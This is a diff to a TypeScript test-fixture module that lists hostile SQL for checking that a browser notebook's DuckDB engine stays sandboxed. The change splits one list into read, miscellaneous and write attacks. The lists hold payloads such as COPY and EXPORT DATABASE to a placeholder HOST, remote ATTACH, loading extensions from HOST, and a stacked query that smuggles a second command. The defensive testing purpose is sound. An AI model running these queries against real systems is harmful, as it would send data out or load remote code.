@@ -19,22 +19,17 @@ const READINGS = [
   (file: string) => `SELECT * FROM tiles WHERE 1 IN (SELECT 1 FROM tiles AS values, '${file}')`
 ];
 
-/** What makes the engine write, fetch, attach, or tell of itself. */
+/** What makes the engine fetch, or tell of itself. */
 const OTHERS = [
   "SELECT * FROM 'places.parquet' LIMIT 1",
   'SELECT e.* FROM (SELECT 1) AS values, "places.parquet" e LIMIT 1',
   "INSTALL httpfs",
   "LOAD 'http://HOST/x.duckdb_extension.wasm'",
   "SET custom_extension_repository='http://HOST'; INSTALL json",
-  "ATTACH 'http://HOST/x.db' AS far",
-  "ATTACH 'x.db'",
-  "COPY places TO 'http://HOST/x'",
-  "COPY (SELECT 1) TO 's3://HOST/x' (FORMAT PARQUET)",
-  "EXPORT DATABASE 'http://HOST/x'",
-  "IMPORT DATABASE 'http://HOST/x'",
   "CREATE TABLE far AS SELECT * FROM 'http://HOST/x.csv'",
   "CREATE VIEW far AS SELECT * FROM read_parquet('http://HOST/x.parquet')",
   "CREATE MACRO far() AS TABLE SELECT * FROM 'http://HOST/x.parquet'",
+  "FROM far()",
   "PREPARE far AS SELECT * FROM 'http://HOST/x.csv'",
   "EXPLAIN ANALYZE SELECT * FROM 'http://HOST/x.csv'",
   "SELECT 1; SELECT * FROM 'http://HOST/x.csv'",
@@ -83,11 +78,30 @@ const OTHERS = [
   'SELECT 1 AS "__proto__", 2 AS "constructor", 3 AS "toString"'
 ];
 
-/** SQL that asks for what a notebook has no business with. */
-export const attacks = (host: string): string[] =>
-  [...FILES.flatMap((file) => READINGS.map((read) => read(file))), ...OTHERS].map((sql) =>
-    sql.replaceAll("HOST", host)
-  );
+/** What makes the engine open a file in order to write, or to run what it says. It does not come back of a refusal. */
+const WRITES = [
+  "ATTACH 'http://HOST/x.db' AS far",
+  "COPY places TO 'http://HOST/x'",
+  "COPY (SELECT 1) TO 's3://HOST/x' (FORMAT PARQUET)",
+  "EXPORT DATABASE 'http://HOST/x'",
+  "IMPORT DATABASE 'http://HOST/x'",
+  "SELECT 1; COPY places TO 'http://HOST/x'"
+];
+
+const at =
+  (host: string) =>
+  (sql: string): string =>
+    sql.replaceAll("HOST", host);
+
+/** SQL that reads a file which is not of the site, in each of many ways. */
+export const readings = (host: string): string[] =>
+  FILES.flatMap((file) => READINGS.map((read) => read(file))).map(at(host));
+
+/** SQL that asks for something else with which a notebook has no business. */
+export const others = (host: string): string[] => OTHERS.map(at(host));
+
+/** SQL that writes to another host. */
+export const writes = (host: string): string[] => WRITES.map(at(host));
 
 /** How the engine is set must not be changed by a query, nor set back. */
 export const SETTINGS = [
